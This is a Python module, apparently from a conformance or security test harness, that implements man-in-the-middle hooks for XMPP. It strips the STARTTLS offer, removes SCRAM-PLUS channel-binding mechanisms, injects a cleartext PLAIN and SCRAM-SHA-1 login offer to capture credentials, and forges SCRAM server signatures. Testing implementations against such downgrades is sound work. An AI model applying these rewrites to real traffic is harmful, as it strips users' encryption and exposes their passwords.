"""What the on-path attacker needs to know about XMPP: where STARTTLS hands the stream over to TLS, what the
service's offer of TLS looks like in the stream features (RFC 6120 §5.4), so that it can be stripped, and the SASL
details an attacker in front of a client alters (the mechanisms offered, the SCRAM server-final-message)."""

from __future__ import annotations

import base64
import binascii
import dataclasses
import re

from .codec.stanza import SASL, TLS

_NS = re.escape(TLS.encode())
# <proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>: the last plaintext the service sends (RFC 6120 §5.4.2.3)
_PROCEED = re.compile(rb"<(?:[\w.-]+:)?proceed\b[^>]*" + _NS)
# <starttls xmlns='...xmpp-tls'/> or <starttls ...><required/></starttls> inside <stream:features/>
_STARTTLS = re.compile(rb"<(?:[\w.-]+:)?starttls\b[^>]*" + _NS + rb"[^>]*?(?:/>|>.*?</(?:[\w.-]+:)?starttls\s*>)",
                       re.S)
_STARTTLS_REQUEST = re.compile(rb"<(?:[\w.-]+:)?starttls\b")
_PLUS_MECHANISM = re.compile(rb"<(?:[\w.-]+:)?mechanism>\s*SCRAM-[\w-]+-PLUS\s*</(?:[\w.-]+:)?mechanism>")
# a SASL <success/> or <challenge/> with base64 content (the SCRAM server-final-message travels in one of them)
_SASL_DATA = re.compile(rb"(<(?:[\w.-]+:)?(?:success|challenge)\b[^>]*" + re.escape(SASL.encode()) +
                        rb"[^>]*>)([A-Za-z0-9+/=\s]+)(</)")
# what a rewrite of what goes to a client needs whole (the relay holds back a chunk that ends inside one of them)
_HELD_UNITS = re.compile(rb"<((?:[\w.-]+:)?(?:success|challenge|mechanisms|features))(?=[\s/>])")
_FEATURES_END = re.compile(rb"</(?:[\w.-]+:)?features>")
_MECHANISMS = re.compile(rb"<(?:[\w.-]+:)?mechanisms\b")
# what an attacker offers a client in clear: SASL mechanisms, so that the client's credentials come its way
_CLEAR_LOGIN = (b"<mechanisms xmlns='" + SASL.encode() + b"'><mechanism>SCRAM-SHA-1</mechanism>"
                b"<mechanism>PLAIN</mechanism></mechanisms>")


@dataclasses.dataclass(frozen=True)
class XmppStreamHooks:
    direct_tls: bool = False

    def tls_go_ahead(self, from_iut: bytes) -> bool:
        return _PROCEED.search(from_iut) is not None

    def strip_tls_offer(self, from_iut: bytes) -> bytes:
        return _STARTTLS.sub(b"", from_iut)

    def tls_request(self, from_victim: bytes) -> bool:
        return _STARTTLS_REQUEST.search(from_victim) is not None

    def tls_refusal(self) -> bytes:
        return b"<failure xmlns='" + TLS.encode() + b"'/></stream:stream>"

    def unit_incomplete(self, to_victim: bytes) -> bool:
        """Does this end inside a tag, or inside a SASL <success/>, <challenge/>, <mechanisms/> or the stream
        features (what the rewrites below need whole)? A `>` inside an attribute value may end the hold early, and
        a unit longer than the relay's hold limit goes on unaltered: good enough for the services the harness runs,
        which write each of these in one piece or a few."""
        if to_victim.rfind(b"<") > to_victim.rfind(b">"):
            return True
        for match in _HELD_UNITS.finditer(to_victim):
            head_end = to_victim.find(b">", match.end())
            if head_end < 0:
                return True
            if to_victim[head_end - 1:head_end] == b"/":
                continue  # <success xmlns='...'/>: nothing inside
            closing = re.compile(b"</" + re.escape(match.group(1)) + rb"\s*>")
            if closing.search(to_victim, head_end) is None:
                return True
        return False

    @staticmethod
    def strip_channel_binding(data: bytes) -> bytes:
        """The SCRAM-*-PLUS mechanisms out of an offer: a MITM that terminates TLS hides them, since the channel
        binding would show the service the attacker's TLS instead of the client's."""
        return _PLUS_MECHANISM.sub(b"", data)

    @staticmethod
    def offer_login_in_clear(data: bytes) -> bytes:
        """Stream features without a SASL offer get one (SCRAM-SHA-1 and PLAIN): an attacker that stripped
        STARTTLS invites the client to log in in clear (catalogue IMPP-T1-3)."""
        if _FEATURES_END.search(data) is None or _MECHANISMS.search(data) is not None or b"<bind" in data:
            return data
        return _FEATURES_END.sub(lambda m: _CLEAR_LOGIN + m.group(0), data, count=1)

    @staticmethod
    def tamper_server_signature(data: bytes) -> bytes:
        """A SCRAM server-final-message (`v=<ServerSignature>`, RFC 5802 §7) in a SASL <success/> or <challenge/>
        with another valid signature of the same length (every bit of its first byte flipped), extensions kept;
        anything else (other elements, `e=` errors, content that is not base64) unchanged."""
        def alter(match: re.Match) -> bytes:
            try:
                final = base64.b64decode(re.sub(rb"\s+", b"", match.group(2)), validate=True)
            except (binascii.Error, ValueError):
                return match.group(0)
            if not final.startswith(b"v="):
                return match.group(0)
            verifier, comma, extensions = final[2:].partition(b",")
            try:
                signature = bytearray(base64.b64decode(verifier, validate=True))
            except (binascii.Error, ValueError):
                return match.group(0)
            if not signature:
                return match.group(0)
            signature[0] ^= 0xFF
            forged = b"v=" + base64.b64encode(bytes(signature)) + comma + extensions
            return match.group(1) + base64.b64encode(forged) + match.group(3)
        return _SASL_DATA.sub(alter, data)
